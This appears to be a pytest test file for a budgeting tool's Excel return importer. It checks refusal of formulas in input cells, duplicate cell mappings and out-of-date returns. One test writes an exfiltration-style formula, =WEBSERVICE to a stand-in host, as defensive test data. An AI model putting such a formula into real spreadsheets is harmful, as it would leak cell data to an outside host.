"""What a return's cells may hold on the way back: numbers in input cells, pcbudget's own
formulas left alone, and a map that names each cell once."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from pcbudget.book import BookError, open_book
from pcbudget.io.excel_return import export_return
from pcbudget.io.return_import import read_return


@pytest.fixture
def exported(sample_path: Path, tmp_path: Path) -> tuple[Path, Path]:
    out = tmp_path / "r.xlsx"
    with open_book(sample_path, write=False) as book:
        export_return(book, out)
    return sample_path, out


def _row(ws, line: str) -> int:  # type: ignore[no-untyped-def]
    return next(r[0].row for r in ws.iter_rows() if r[1].value == line)


def test_a_formula_typed_into_an_input_cell_is_refused(exported, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    book_path, out = exported
    wb = openpyxl.load_workbook(out)
    wb["LC"]["E5"] = '=WEBSERVICE("http://example.invalid/"&E6)'
    wb.save(tmp_path / "e.xlsx")
    with open_book(book_path) as book, pytest.raises(BookError, match=r"LC!E5 holds a formula"):
        read_return(book, tmp_path / "e.xlsx")


def test_pcbudgets_own_formulas_are_left_to_the_book_but_a_number_over_one_is_offered(
    exported, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    book_path, out = exported
    wb = openpyxl.load_workbook(out)
    ws = wb["LC"]
    premises = _row(ws, "premises")
    assert str(ws[f"F{premises}"].value).startswith("=ROUND(")
    ws[f"G{premises}"] = 8_000_000  # typed over the 2021/22 uplift formula
    wb.save(tmp_path / "e.xlsx")
    with open_book(book_path) as book:
        edits = read_return(book, tmp_path / "e.xlsx")
    assert [(e.cell, e.calculated, e.new) for e in edits] == [
        (f"G{premises}", True, 800_000_000)
    ]  # the untouched formula in F is not read as a change


def test_a_map_naming_a_cell_twice_is_refused(exported, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    book_path, out = exported
    wb = openpyxl.load_workbook(out)
    key = wb["_pcbudget"]
    first = [c.value for c in key[3]]
    key.append(first)  # the same cell mapped again would count its change twice
    wb.save(tmp_path / "e.xlsx")
    with open_book(book_path) as book, pytest.raises(BookError, match="twice"):
        read_return(book, tmp_path / "e.xlsx")


def test_a_return_from_a_later_state_than_the_file_holds_is_refused(
    sample_path: Path, tmp_path: Path
) -> None:
    import shutil

    from pcbudget.book.edits import set_amount

    backup = tmp_path / "backup.pcbook"
    shutil.copyfile(sample_path, backup)  # the same book, before the edit below
    with open_book(sample_path) as book:
        set_amount(book, "LC", "premises", "2019/20", 700_000_000)
        export_return(book, tmp_path / "r.xlsx")
    shutil.copyfile(backup, sample_path)  # the book restored from yesterday's backup
    with open_book(sample_path) as book, pytest.raises(BookError, match="later state"):
        read_return(book, tmp_path / "r.xlsx")
